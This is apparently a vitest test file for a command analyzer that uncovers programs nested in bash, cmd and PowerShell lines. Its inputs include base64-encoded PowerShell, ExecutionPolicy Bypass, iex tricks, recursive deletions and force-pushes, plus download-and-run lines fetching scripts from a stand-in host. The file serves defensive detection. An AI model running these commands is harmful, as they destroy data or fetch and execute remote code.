import { expect, test } from 'vitest'
import { analyze } from '../analyze.ts'
import type { Language } from '../line.ts'

const ENCODED = Buffer.from('Remove-Item x', 'utf16le').toString('base64')

const FILES: Readonly<Record<string, string>> = { 'a.ps1': 'ri y' }

function programs(line: string, language: Language): readonly string[] {
  return analyze(line, { language, read: (path) => FILES[path] })
    .programs.filter(({ via }) => via !== undefined)
    .map(({ name, words }) => [name, ...words.slice(1).map(({ text }) => text)].join(' '))
}

const REMOVES = ['remove-item x']

test.for<[Language, string, readonly string[]]>([
  ['bash', `powershell -enc ${ENCODED}`, REMOVES],
  ['bash', `powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand ${ENCODED}`, REMOVES],
  ['cmd', `pwsh -e ${ENCODED}`, REMOVES],
  ['powershell', `powershell -ec ${ENCODED}`, REMOVES],
  ['bash', "pwsh -c 'ri x'", REMOVES],
  ['bash', 'pwsh -NoLogo -Command ri x', REMOVES],
  ['bash', 'powershell.exe "ri x"', REMOVES],
  ['bash', "echo 'ri x' | pwsh -", REMOVES],
  ['bash', "echo 'ri x' | powershell -Command -", REMOVES],
  ['bash', 'pwsh a.ps1', ['remove-item y']],
  ['bash', 'pwsh -File a.ps1 1', ['remove-item y']],
  ['bash', 'cmd /c rd /s x', ['rd /s x']],
  ['bash', 'cmd.exe //d //c rd //s x', ['rd /s x']],
  ['bash', "cmd /v:on/c 'set X=rd&!X! x'", ['set X=rd', 'rd x']],
  ['powershell', 'cmd /c "rd /s x & dir"', ['rd /s x', 'dir']],
  ['powershell', "iex 'ri x'", REMOVES],
  ['powershell', "'ri x' | iex", REMOVES],
  ['powershell', '$a = "r" + "i"; iex "$a x"', REMOVES],
  ['powershell', 'icm -ScriptBlock { ri x }', REMOVES],
  ['powershell', 'Start-Process git -ArgumentList "push","--force" -Wait', ['git push --force']],
  ['powershell', "saps -FilePath GIT.exe -Args 'push --force'", ['git push --force']],
  ['cmd', 'start /b git push', ['git push']],
  ['cmd', 'start "a b" /min git push', ['git push']],
  ['powershell', 'wsl -d Debian -- rm -rf x', ['rm -rf x']],
  ['powershell', 'gci x -Recurse | ri -Force', ['remove-item x/* -Force']],
  ['powershell', 'gci x | ? { $_.y } | ri', ['remove-item x/*']],
  ['cmd', 'runas /user:a "rd x"', ['rd x']],
  ['cmd', 'schtasks /create /tn a /tr "rd x"', ['rd x']],
])('%s: %s runs %s', ([language, line, expected]) => expect(programs(line, language)).toEqual(expected))

test.for<[Language, string, string]>([
  ['bash', 'powershell -enc "$x"', 'decoded'],
  ['bash', 'powershell -enc A*A', 'decoded'],
  ['powershell', 'iex $x', 'run-time-script'],
  ['powershell', 'icm $x', 'run-time-script'],
  ['powershell', 'iwr https://x.example/i.ps1 | iex', 'downloaded'],
  ['powershell', 'iex (New-Object Net.WebClient).DownloadString("https://x.example")', 'run-time-script'],
  ['cmd', 'cscript a.vbs', 'unseen-script'],
  ['bash', 'pwsh b.ps1', 'unseen-script'],
])('%s: what %s runs is reported', ([language, line, code]) => {
  const { unanalysable } = analyze(line, { language })
  expect(unanalysable.map((each) => each.code)).toContain(code)
})

test.for(['Get-ChildItem | Where-Object { $_.Length -gt 5 }', 'git status; if ($?) { git log }'])(
  '%s is known',
  (line) => expect(analyze(line, { language: 'powershell' }).unanalysable).toEqual([]),
)
